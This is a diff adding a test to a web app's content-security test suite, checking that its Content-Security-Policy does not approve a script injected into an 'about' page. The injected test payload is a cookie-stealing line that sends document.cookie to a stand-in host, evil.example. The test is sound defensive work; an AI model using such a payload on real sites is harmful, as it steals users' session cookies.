@@ -196,6 +196,17 @@ describe('content security', () => {
     }
   })
 
+  test('a script that comes into a page by a mistake is not allowed as if it were ours', async () => {
+    await using own = await openTestStore()
+    const evil = 'fetch("https://evil.example/" + document.cookie)'
+    const page = own.services.content.page('about')
+    Object.assign(page, { html: `<p>About</p><script>${evil}</script><script nonce="guessed">${evil}</script>` })
+    const { text, headers } = await exchange(`${own.url}/about`)
+    expect(text).toContain(`<script>${evil}</script>`)
+    expect(headers['content-security-policy']).toMatch(/script-src 'self' 'sha256-/)
+    expect(headers['content-security-policy']).not.toContain(createHash('sha256').update(evil).digest('base64'))
+  })
+
   test('a personal page has a fresh nonce each time, on each of its scripts', async () => {
     const nonces = new Set<string>()
     for (let visit = 0; visit < 20; visit++) {
